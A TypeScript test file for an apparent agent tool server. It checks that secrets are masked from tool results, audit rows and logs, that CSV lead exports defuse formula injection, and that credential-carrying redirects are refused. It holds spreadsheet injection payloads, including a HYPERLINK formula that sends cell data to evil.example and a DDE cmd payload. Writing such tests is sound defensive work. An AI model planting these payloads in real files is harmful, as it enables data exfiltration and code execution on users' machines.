/**
 * The attack run against secrets and data, replayed at its scale with random
 * inputs (seeded, so a failure replays): API answers that quote random
 * secrets in random forms with the cut anywhere, formula payloads in every
 * field that reaches the leads CSV, numbers JSON cannot carry, and redirects
 * that carry credentials in every spelling. No part of a secret may reach
 * the model, the audit trail or the log; every CSV cell must read back as
 * what was stored and none may start a formula; nothing may be sent where a
 * request should have been refused.
 */
import { expect, it } from 'vitest';

import { admin, auditRows } from '../helpers/admin.ts';
import { openSession, post } from '../helpers/http.ts';
import { leakedPart } from '../helpers/leaks.ts';
import { random, randomSecret } from '../helpers/random.ts';
import { callHeaders, connect, startTestServer, textOf } from '../helpers/server.ts';
import { basicManifests } from '../helpers/test-tools.ts';
import { startUpstream } from '../helpers/upstream.ts';

const TAIL = 'y'.repeat(30);
const cut = (text: string, limit: number) => (text.length <= limit ? text : `${text.slice(0, limit - 1)}…`);


it('API answers quoting 40 random secrets, 400 times with the cut anywhere, never show a part of one', async () => {
  const rng = random(0x5ec7e7);
  const secrets = Array.from({ length: 40 }, () => randomSecret(rng));
  const upstream = await startUpstream('127.0.0.1', (request) => {
    const url = new URL(request.target, 'http://upstream');
    const [key, pad, form] = [url.searchParams.get('key') ?? '', url.searchParams.get('pad') ?? '', url.pathname.slice(1)];
    if (form === 'error') return { status: 400, body: { error: { message: `${pad}${key}${TAIL}` } } };
    if (form === 'json') return { body: { said: `${pad}${key}${TAIL}` } };
    const quoted = form === 'escaped' ? JSON.stringify(key).slice(1, -1) : form === 'encoded' ? encodeURIComponent(key) : form === 'respaced' ? key.replace(/\s+/g, '\r\n') : key;
    return { body: `${pad}${quoted}${TAIL}`, headers: { 'content-type': 'text/plain' } };
  });
  const tools = secrets.map(
    (_secret, index) =>
      `  - { type: api_request, name: t${index}, description: Quotes its key., method: GET, url: "${upstream.base}/{{form}}", query: { key: "{{secret.K${index}}}", pad: "{{pad}}" }, variables: [{ name: form, type: dropdown, options: [text, json, error, escaped, encoded, respaced], required: true }, { name: pad, type: text, max_length: 2000 }] }`,
  );
  const server = await startTestServer({
    personas: { 'acme/account.yaml': 'account_id: acme\ntimezone: UTC\n', 'acme/api.yaml': `persona_id: api\ntools:\n${tools.join('\n')}\n` },
    env: Object.fromEntries(secrets.map((secret, index) => [`K${index}`, secret])),
    settings: { outboundAllow: ['127.0.0.1'] },
    logLevel: 'debug',
  });
  const client = await connect(server, callHeaders({ key: await server.key('acme'), persona: 'api', call: 'replay-secrets' }));
  const results: string[] = [];
  try {
    for (let round = 0; round < 400; round++) {
      const index = rng.int(secrets.length);
      const secret = secrets[index] as string;
      const form = rng.pick(['text', 'json', 'error', 'escaped', 'encoded', 'respaced'] as const);
      const limit = form === 'error' ? 200 : 1500;
      const framing = form === 'json' ? '{"said":"'.length : 0;
      // Mostly a cut inside the secret as it arrives, sometimes anywhere.
      const padLength = rng.int(4) === 0 ? rng.int(limit) : Math.max(0, limit - 1 - framing - 1 - rng.int(secret.length + 4));
      const pad = 'x'.repeat(padLength);
      const result = await client.callTool({ name: `t${index}`, arguments: { form, pad } });
      const masked = `${pad}***${TAIL}`;
      const want =
        form === 'error'
          ? `The service refused the request (HTTP 400: ${cut(masked, 200)}). Check the details with the caller and call again only with corrected values.`
          : form === 'json'
            ? cut(JSON.stringify({ said: masked }), 1500)
            : cut(masked, 1500);
      expect(textOf(result), `round ${round}: ${JSON.stringify(secret)} as ${form}, pad ${padLength}`).toBe(want);
      results.push(JSON.stringify(result));
    }
    const rows = JSON.stringify(await auditRows(server, await server.key('acme', 'admin'), { call: 'replay-secrets' }, 200));
    const everything = `${results.join('\n')}\n${rows}\n${server.logLines.join('\n')}`;
    for (const secret of secrets) expect(leakedPart(everything, secret), JSON.stringify(secret)).toBeUndefined();
  } finally {
    await client.close();
    await server.close();
    await upstream.close();
  }
});

/** RFC 4180 rows, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i] as string;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else {
      cell += char;
    }
  }
  return rows;
}

it('200 formula payloads in call ids, caller numbers and what callers said: every cell defused, none changed', async () => {
  const rng = random(0xc5f);
  const starts = ['=', '+', '-', '@', '\t', ' =', '  +'];
  /** Full-width signs only where no header carries them (headers are Latin-1). */
  const wide = ['＝', '＋', '－', '＠'];
  const bodies = ['HYPERLINK("http://evil.example/?"&A1)', "cmd|' /C calc'!A0", 'SUM(1+1)*cmd', '1+1', 'IMPORTXML(CONCAT("http://x/",A2),"//a")', '2+3'];
  const payload = () => `${rng.pick(starts)}${rng.pick(bodies)}`;
  const server = await startTestServer({ personas: basicManifests });
  try {
    const sent: { call: string; caller: string; name: string; intent: string }[] = [];
    for (let i = 0; i < 200; i++) {
      const numberLike = rng.pick(['+12125550100', '-42', '+442071838750', '17']);
      const entry = {
        call: `${rng.pick(['=', '+', '-', '@'])}c${i}${rng.pick(bodies).replace(/\s/g, '')}`,
        caller: rng.int(3) === 0 ? numberLike : payload().trim().slice(0, 64),
        name: rng.int(4) === 0 ? numberLike : payload().trim(),
        intent: rng.int(2) === 0 ? `${rng.pick(wide)}${rng.pick(bodies)}` : payload().trim(),
      };
      sent.push(entry);
      const client = await connect(server, callHeaders({ key: await server.key('acme'), call: entry.call, caller: entry.caller }));
      const result = await client.callTool({ name: 'create_lead', arguments: { name: entry.name, intent: entry.intent } });
      expect(result.isError, JSON.stringify(result)).toBeFalsy();
      await client.close();
    }
    const response = await admin(server, await server.key('acme', 'admin'), 'GET', 'acme/leads?format=csv');
    const [header, ...rows] = parseCsv(response.text);
    const column = (name: string) => (header as string[]).indexOf(name);
    expect(rows).toHaveLength(200);
    for (const row of rows) {
      for (const cell of row) {
        const number = /^[+-]?\d+(\.\d+)?$/.test(cell);
        expect(number || !/^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell), `cell ${JSON.stringify(cell)}`).toBe(true);
      }
      const entry = sent.find((item) => item.call === (row[column('call_id')] as string).replace(/^'/, '')) as (typeof sent)[number];
      expect(entry, row.join(',')).toBeDefined();
      // Read back: a defused cell is the stored text behind one apostrophe; a number is untouched.
      const back = (name: keyof typeof entry, col: string) => {
        const cell = row[column(col)] as string;
        expect(cell === entry[name] || cell === `'${entry[name]}`, `${col}: ${JSON.stringify(cell)} for ${JSON.stringify(entry[name])}`).toBe(true);
        if (/^[+-]?\d+$/.test(entry[name])) expect(cell).toBe(entry[name]);
      };
      back('caller', 'caller_id_number');
      back('name', 'name');
      back('intent', 'intent');
    }
  } finally {
    await server.close();
  }
});

it('numbers JSON cannot carry and redirects carrying credentials are refused in every spelling, and nothing is sent', async () => {
  const upstream = await startUpstream('127.0.0.1');
  const other = await startUpstream('127.0.0.2');
  const persona = `persona_id: api
tools:
  - { type: api_request, name: pay, description: Pays., method: POST, url: "${upstream.base}/pay", body: { amount: "{{amount}}" }, variables: [{ name: amount, type: number, required: true }] }
  - { type: api_request, name: hop, description: Follows a redirect., method: GET, url: "${upstream.base}/hop", retries: 2 }
`;
  const server = await startTestServer({ personas: { 'acme/account.yaml': 'account_id: acme\ntimezone: UTC\n', 'acme/api.yaml': persona }, settings: { outboundAllow: ['127.0.0.0/8'] } });
  try {
    const headers = callHeaders({ key: await server.key('acme'), persona: 'api', call: 'replay-numbers' });
    const session = await openSession(server, headers);
    const rng = random(309);
    for (let i = 0; i < 60; i++) {
      const amount = `${rng.pick(['', '-'])}${rng.pick(['1', '9.9', '2'])}e${309 + rng.int(5000)}`;
      const body = `{"jsonrpc":"2.0","id":${i + 2},"method":"tools/call","params":{"name":"pay","arguments":{"amount":${amount}}}}`;
      const response = await post(server, { ...headers, 'mcp-session-id': session, 'mcp-protocol-version': '2025-06-18' }, undefined, { raw: body });
      const result = (response.json as { result: { isError?: boolean; content: { text: string }[] } }).result;
      expect(result.isError, amount).toBe(true);
      expect(result.content[0]?.text).toContain('"amount" must be a finite number');
    }
    expect(upstream.requests).toHaveLength(0);

    const client = await connect(server, headers);
    const host = `127.0.0.2:${other.port}`;
    const locations = [`http://user:pass@${host}/x`, `http://user@${host}/x`, `http://:pass@${host}/x`, `HTTP://us%65r:p%40ss@${host}/x`, `//user:pass@${host}/x`, `http://user:pass@127.0.0.1:${upstream.port}/x`];
    for (const location of locations) {
      upstream.reset((request) => (request.target === '/hop' ? { status: rng.pick([301, 302, 303, 307, 308]), headers: { location } } : {}));
      other.reset();
      const result = await client.callTool({ name: 'hop', arguments: {} });
      expect(result.isError, location).toBe(true);
      expect(textOf(result)).toContain('redirected the request where this tool does not follow');
      expect(other.requests, location).toHaveLength(0);
      expect(upstream.requests.map((request) => request.target), location).toEqual(['/hop']);
    }
    await client.close();
  } finally {
    await server.close();
    await upstream.close();
    await other.close();
  }
});
